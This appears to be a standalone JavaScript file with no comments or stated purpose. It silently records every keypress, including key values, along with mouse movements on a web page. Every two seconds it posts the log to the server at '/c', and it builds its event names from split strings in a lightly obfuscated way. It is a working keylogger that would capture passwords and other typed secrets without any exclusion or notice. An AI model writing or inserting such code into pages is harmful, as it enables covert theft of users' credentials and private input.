(function(){
  var K = 'key', P = 'mouse';
  var evs = [K + 'down', K + 'up', P + 'move'];
  var sink = [];
  function rec(e){
    sink.push([e.type.charAt(0), e[K] || '', e.clientX | 0, e.clientY | 0, e.timeStamp | 0]);
  }
  for (var i = 0; i < evs.length; i++) document.addEventListener(evs[i], rec, true);
  setInterval(function(){
    if (!sink.length) return;
    fetch('/c', { method: 'POST', body: JSON.stringify(sink.splice(0, sink.length)), keepalive: true });
  }, 2000);
})();
